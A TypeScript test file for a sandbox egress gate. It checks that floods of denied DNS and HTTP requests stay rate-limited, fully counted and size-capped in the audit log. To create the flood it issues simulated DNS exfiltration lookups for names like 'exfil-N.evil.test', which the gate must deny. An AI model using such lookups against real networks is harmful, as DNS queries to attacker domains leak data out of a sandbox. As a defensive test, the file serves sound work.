import { afterAll, describe, expect, test } from "bun:test";
import { existsSync, statSync } from "node:fs";
import { readAudit } from "../../../../lib/audit.ts";
import { QTYPE, RCODE, decodeResponse, encodeQuery } from "../../../../lib/gates/egress/daemon/dns.ts";
import { MANY_HOSTS } from "../../../../lib/gates/egress/daemon/denials.ts";
import { type TestGate, rawRequest, startGate, udpAsk } from "./helpers.ts";

/**
 * A bottle that is denied over and over must not be able to grow the audit
 * log on the host without bound: the gate's own log, end to end.
 */

const gates: TestGate[] = [];
afterAll(async () => {
  for (const gate of gates) await gate.close();
});

/** Bytes of the log and its rotated generation. */
function onDisk(path: string): number {
  return [path, `${path}.1`].filter((file) => existsSync(file)).reduce((sum, file) => sum + statSync(file).size, 0);
}

describe("the audit log under a flood of denials", () => {
  test("distinct denied DNS names and repeated HTTP denials: listed up to the line budget, the rest counted; every denial accounted for", async () => {
    const gate = await startGate({}, {}, { denialBounds: { intervalMs: 60_000, linesPerSecond: 10, burst: 50, maxKeys: 4096 } });
    gates.push(gate);
    const { dnsUdp, proxy } = gate.gate.ports();
    const started = Date.now();
    for (let i = 0; i < 400; i++) await udpAsk(dnsUdp, encodeQuery(`exfil-${i}.evil.test`, QTYPE.A, i));
    for (let i = 0; i < 30; i++) expect(await rawRequest(proxy, `GET http://denied.test/${i} HTTP/1.1\r\nHost: denied.test\r\n\r\n`)).toContain(" 403 ");
    // Closing the gate writes what was counted.
    await gate.gate.close();
    const lines = readAudit(gate.auditPath);
    const seconds = Math.ceil((Date.now() - started) / 1000);
    expect(lines.length).toBeLessThanOrEqual(50 + 10 * seconds + 2);
    expect(lines.reduce((sum, line) => sum + (line.count ?? 1), 0)).toBe(430);
    expect(lines).toContainEqual(expect.objectContaining({ method: "DNS", host: MANY_HOSTS, rule: "dns-not-allowed", count: expect.any(Number) }));
    const http = lines.filter((line) => line.host === "denied.test" || (line.method === "GET" && line.host === MANY_HOSTS));
    expect(http.reduce((sum, line) => sum + (line.count ?? 1), 0)).toBe(30);
  });

  test("distinct denied DNS names: the log and its .1 stay within limits.maxLogBytes; the host reads both", async () => {
    const cap = 8192;
    const gate = await startGate({ limits: { requestsPerMinute: 0, bytesOut: 0, idleTimeoutMs: 10_000, maxTunnelMs: 60_000, maxLogBytes: cap } }, {});
    gates.push(gate);
    const port = gate.gate.ports().dnsUdp;
    for (let i = 0; i < 300; i++) {
      const answer = decodeResponse(await udpAsk(port, encodeQuery(`exfil-${i}.evil.test`, QTYPE.A, i)));
      expect(answer.rcode).not.toBe(RCODE.NOERROR);
    }
    expect(onDisk(gate.auditPath)).toBeLessThanOrEqual(cap);
    expect(existsSync(`${gate.auditPath}.1`)).toBe(true);
    // `bottle logs` and the teardown summary read the rotated generation first, then the file.
    const lines = readAudit(gate.auditPath);
    expect(lines.length).toBeGreaterThan(10);
    expect(lines.at(-1)).toMatchObject({ method: "DNS", decision: "deny" });
  });
});
